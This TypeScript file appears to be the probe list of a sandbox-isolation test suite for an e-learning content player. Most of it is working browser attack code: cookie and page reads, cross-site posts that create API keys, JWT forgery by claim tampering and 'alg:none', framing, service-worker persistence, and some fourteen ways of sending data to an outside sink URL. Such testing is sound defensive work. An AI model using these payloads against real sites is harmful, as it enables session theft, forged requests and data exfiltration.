/* The attacks run in a browser: `window` is that of the SCO. */
/// <reference lib="dom" />
import type { Probe } from './probe.js';

/** What isolation cannot prevent: a SCO speaks for its own attempt. Runs in its frame. @returns the status of the answer */
export async function writeToOwnAttempt(itemId: string): Promise<number> {
  const answer = await fetch('/_muster/commit', {
    method: 'POST',
    headers: { authorization: `Bearer ${parent.location.hash.replace('#t=', '')}`, 'content-type': 'application/json' },
    body: JSON.stringify({ itemId, seq: 900, reason: 'commit', cmi: {}, clientTime: new Date().toISOString() }),
  });
  return answer.status;
}

/** Towards the application and the learner's session in it. */
const SESSION: Probe[] = [
  {
    name: 'reads the page of the application',
    sign: 'told',
    attack: () => window.top!.document.body.innerText.includes('Ortiz'),
  },
  {
    name: 'reads the session cookie through that page',
    sign: 'told',
    attack: () => window.top!.document.cookie.length > 0,
  },
  { name: 'finds a cookie of its own site to read', sign: 'told', attack: () => document.cookie.includes('session') },
  {
    name: 'reads what the application keeps in the browser',
    sign: 'told',
    attack: () => window.top!.localStorage.length > 0,
  },
  {
    name: 'sets a cookie that the application is sent',
    sign: 'cookie',
    attack: ({ word }) => {
      document.cookie = `${word}=1; path=/`;
      document.cookie = `${word}=1; path=/; domain=localhost`;
      document.cookie = `${word}=1; path=/; domain=.localhost`;
    },
  },
  {
    name: 'asks the API who is signed in',
    sign: 'told',
    attack: async ({ appUrl, word }) => {
      const answer = await fetch(`${appUrl}/api/v1/me?${word}`, { credentials: 'include' });
      return (await answer.text()).includes('@');
    },
  },
  {
    name: 'posts to the API blindly',
    sign: 'app',
    attack: ({ appUrl, word }) =>
      fetch(`${appUrl}/api/v1/api-keys?${word}`, {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        body: '{"name":"stolen"}',
      }),
  },
  {
    name: 'sends the API a beacon',
    sign: 'app',
    attack: ({ appUrl, word }) => void navigator.sendBeacon(`${appUrl}/api/v1/api-keys?${word}`, '{"name":"stolen"}'),
  },
  {
    name: 'asks the API by an old request',
    sign: 'app',
    attack: ({ appUrl, word }) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${appUrl}/api/v1/api-keys?${word}`);
      request.withCredentials = true;
      request.send('{"name":"stolen"}');
    },
  },
  {
    name: 'submits a form to the API in a hidden frame',
    sign: 'app',
    attack: ({ appUrl, word }) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<iframe name="hidden" hidden></iframe><form method="post" target="hidden" action="${appUrl}/api/v1/api-keys?${word}"><input name="name" value="stolen"></form>`,
      );
      document.forms[document.forms.length - 1]!.submit();
    },
  },
  {
    name: 'makes itself a launch link',
    sign: 'told',
    attack: async ({ appUrl, registrationId, word }) => {
      const answer = await fetch(`${appUrl}/api/v1/registrations/${registrationId}/launches?${word}`, {
        method: 'POST',
        credentials: 'include',
      });
      return answer.ok;
    },
  },
  {
    name: 'puts the application into a frame',
    sign: 'app',
    attack: ({ appUrl, word }) => {
      document.body.insertAdjacentHTML('beforeend', `<iframe src="${appUrl}/sign-in?${word}"></iframe>`);
    },
  },
  {
    name: 'loads a picture from the application',
    sign: 'app',
    attack: ({ appUrl, word }) => void (new Image().src = `${appUrl}/api/v1/me?${word}`),
  },
];

/** Towards other attempts. The runtime token of its own attempt is within a SCO's reach, and is no probe. */
const ATTEMPTS: Probe[] = [
  {
    name: 'opens a session without a token',
    sign: 'told',
    attack: async () => (await fetch('/_muster/session', { method: 'POST' })).ok,
  },
  {
    name: 'opens a session with the ticket of its files',
    sign: 'told',
    attack: async () => {
      const ticket = location.pathname.split('/')[2] ?? '';
      return (await fetch('/_muster/session', { method: 'POST', headers: { authorization: `Bearer ${ticket}` } })).ok;
    },
  },
  {
    name: 'renews a token with the ticket of its files',
    sign: 'told',
    attack: async () => {
      const ticket = location.pathname.split('/')[2] ?? '';
      return (await fetch('/_muster/token', { method: 'POST', headers: { authorization: `Bearer ${ticket}` } })).ok;
    },
  },
  {
    name: 'writes with a token whose attempt it changed',
    sign: 'told',
    attack: async ({ itemId }) => {
      const [head, payload, signature] = (parent.location.hash.replace('#t=', '') || 'e30.e30.x').split('.');
      const claims = JSON.parse(atob((payload ?? 'e30').replace(/-/g, '+').replace(/_/g, '/'))) as Record<
        string,
        unknown
      >;
      claims['attempt'] = '01890000-0000-7000-8000-000000000000';
      const forged = btoa(JSON.stringify(claims)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
      const answer = await fetch('/_muster/commit', {
        method: 'POST',
        headers: { authorization: `Bearer ${head}.${forged}.${signature}`, 'content-type': 'application/json' },
        body: JSON.stringify({ itemId, seq: 9, reason: 'commit', cmi: {}, clientTime: new Date().toISOString() }),
      });
      return answer.ok;
    },
  },
  {
    name: 'writes with a token that nobody signed',
    sign: 'told',
    attack: async ({ itemId }) => {
      const payload = parent.location.hash.replace('#t=', '').split('.')[1] ?? 'e30';
      const head = btoa('{"alg":"none"}').replace(/=/g, '');
      const answer = await fetch('/_muster/commit', {
        method: 'POST',
        headers: { authorization: `Bearer ${head}.${payload}.`, 'content-type': 'application/json' },
        body: JSON.stringify({ itemId, seq: 9, reason: 'commit', cmi: {}, clientTime: new Date().toISOString() }),
      });
      return answer.ok;
    },
  },
  {
    name: 'writes to another attempt with its own token',
    sign: 'told',
    attack: async ({ otherOrigin, itemId }) => {
      const token = parent.location.hash.replace('#t=', '');
      const answer = await fetch(`${otherOrigin}/_muster/commit`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ itemId, seq: 9, reason: 'commit', cmi: {}, clientTime: new Date().toISOString() }),
      });
      return answer.ok;
    },
  },
  {
    name: 'leaves a service worker behind',
    sign: 'told',
    attack: async () => {
      const made = await navigator.serviceWorker.register('sw.js');
      return made.scope !== '';
    },
  },
];

/** Out of its frame: the page around it, other windows, its own sandbox. */
const WINDOWS: Probe[] = [
  {
    name: 'moves the page around it',
    sign: 'top',
    attack: ({ sinkUrl, word }) => void (window.top!.location.href = `${sinkUrl}/?${word}`),
  },
  {
    name: 'moves it by a link that the learner follows',
    sign: 'top',
    click: true,
    attack: ({ sinkUrl, word }) =>
      document.body.insertAdjacentHTML(
        'afterbegin',
        `<a id="probe" target="_top" href="${sinkUrl}/?${word}">Continue</a>`,
      ),
  },
  {
    name: 'moves it by a form',
    sign: 'top',
    attack: ({ sinkUrl, word }) => {
      document.body.insertAdjacentHTML('beforeend', `<form target="_top" action="${sinkUrl}/${word}"></form>`);
      document.forms[document.forms.length - 1]!.submit();
    },
  },
  { name: 'opens a window', sign: 'window', attack: ({ sinkUrl, word }) => void window.open(`${sinkUrl}/?${word}`) },
  {
    name: 'opens a window by a link that the learner follows',
    sign: 'window',
    click: true,
    attack: ({ sinkUrl, word }) =>
      document.body.insertAdjacentHTML(
        'afterbegin',
        `<a id="probe" target="_blank" href="${sinkUrl}/?${word}">Continue</a>`,
      ),
  },
  {
    name: 'takes its sandbox off through the frame element',
    sign: 'told',
    attack: () => {
      const frame = window.parent.frameElement;
      frame?.removeAttribute('sandbox');
      return frame !== null;
    },
  },
  {
    name: 'finds the frame that holds it from the page around it',
    sign: 'told',
    attack: () => window.top!.document.querySelector('iframe') !== null,
  },
];

/** Out with what it knows. */
const WAYS_OUT: Probe[] = [
  {
    name: 'carries data out by a request',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => fetch(`${sinkUrl}/?${word}`, { mode: 'no-cors' }),
  },
  {
    name: 'carries data out by a beacon',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void navigator.sendBeacon(`${sinkUrl}/?${word}`),
  },
  {
    name: 'carries data out by a picture',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void (new Image().src = `${sinkUrl}/?${word}`),
  },
  {
    name: 'carries data out by a script',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => {
      const script = document.createElement('script');
      script.src = `${sinkUrl}/?${word}`;
      document.head.append(script);
    },
  },
  {
    name: 'carries data out by a style',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void (document.body.style.backgroundImage = `url("${sinkUrl}/?${word}")`),
  },
  {
    name: 'carries data out by a socket',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void new WebSocket(`${sinkUrl.replace('http', 'ws')}/?${word}`),
  },
  {
    name: 'carries data out by a stream of events',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void new EventSource(`${sinkUrl}/?${word}`),
  },
  {
    name: 'carries data out by a frame',
    sign: 'sink',
    attack: ({ sinkUrl, word }) =>
      document.body.insertAdjacentHTML('beforeend', `<iframe src="${sinkUrl}/?${word}"></iframe>`),
  },
  {
    name: 'carries data out by a film',
    sign: 'sink',
    attack: ({ sinkUrl, word }) =>
      document.body.insertAdjacentHTML('beforeend', `<video src="${sinkUrl}/?${word}" autoplay muted></video>`),
  },
  {
    name: 'carries data out by an old plug-in',
    sign: 'sink',
    attack: ({ sinkUrl, word }) =>
      document.body.insertAdjacentHTML(
        'beforeend',
        `<object type="text/html" data="${sinkUrl}/?${word}" width="20" height="20"></object>`,
      ),
  },
  {
    name: 'carries data out by a form',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => {
      document.body.insertAdjacentHTML('beforeend', `<form action="${sinkUrl}/${word}"></form>`);
      document.forms[document.forms.length - 1]!.submit();
    },
  },
  {
    name: 'carries data out by going there itself',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void (location.href = `${sinkUrl}/?${word}`),
  },
  {
    name: 'carries data out by a page that refreshes itself',
    sign: 'sink',
    attack: ({ sinkUrl, word }) =>
      document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${sinkUrl}/?${word}">`),
  },
  {
    name: 'carries data out by sending the player there',
    sign: 'sink',
    attack: ({ sinkUrl, word }) => void (parent.location.href = `${sinkUrl}/?${word}`),
  },
];

export const PROBES: Probe[] = [...SESSION, ...ATTEMPTS, ...WINDOWS, ...WAYS_OUT];
